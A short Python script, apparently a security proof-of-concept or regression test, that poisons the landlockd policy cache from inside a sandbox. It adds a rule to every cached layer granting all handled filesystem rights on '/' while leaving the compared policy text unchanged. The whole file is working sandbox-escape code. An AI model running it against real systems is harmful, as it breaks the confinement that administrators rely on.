#!/usr/bin/env python3
"""Cache poisoning, run inside a sandbox that may write $XDG_CACHE_HOME.

Rewrites every landlockd policy-cache entry it finds so that each layer
also grants every right it handles on "/", keeping the stored policy text
unchanged (the cache compared only that text). Prints "poisoned N".
"""
import json
import os
import sys

cache = os.path.join(sys.argv[1], "landlockd", "policies")
n = 0
try:
    names = os.listdir(cache)
except FileNotFoundError:
    names = []
for name in names:
    if not name.endswith(".json"):
        continue
    path = os.path.join(cache, name)
    with open(path) as f:
        entry = json.load(f)
    for layer in entry["policy"].get("fs_layer", []):
        layer.setdefault("rule", []).append(
            {"path": "/", "allowed_access": layer["handled_access_fs"],
             "optional": False})
    with open(path, "w") as f:
        json.dump(entry, f)
    n += 1
print(f"poisoned {n}")
